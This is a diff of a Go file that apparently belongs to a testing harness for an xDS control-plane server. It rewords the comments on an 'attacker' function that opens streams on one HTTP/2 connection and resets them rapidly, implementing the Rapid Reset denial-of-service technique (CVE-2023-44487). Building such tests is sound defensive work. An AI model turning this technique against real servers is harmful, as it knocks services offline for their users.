@@ -10,8 +10,9 @@ import (
 	"navarch.io/navarch/push/xds"
 )
 
-// resets begins streams of delta ADS on one connection and resets each at once, every other one with its first request before that, as fast as the connection takes
-// it (CVE-2023-44487): a server that begins the work of each has any number under way, whatever number of streams it allows at once.
+// resets begins streams of delta ADS on one connection and resets each at once, every second one after its first
+// request, as fast as the connection permits (CVE-2023-44487). A server that starts work for each stream then has an
+// unbounded amount of work, whatever its limit of concurrent streams.
 func resets(ctx context.Context, w *attacker) string {
 	ctx, cancel := context.WithTimeout(ctx, w.Hold)
 	defer cancel()
@@ -26,7 +27,7 @@ func resets(ctx context.Context, w *attacker) string {
 	})
 }
 
-// reset begins the stream and resets it.
+// reset begins one stream and resets it.
 func (w *attacker) reset(u *http2Conn, stream uint32, i int) error {
 	first, err := proto.Marshal(&discoveryv3.DeltaDiscoveryRequest{Node: w.node(w.invented(i % 64)).message(), TypeUrl: xds.Cluster.URL()})
 	if err != nil {
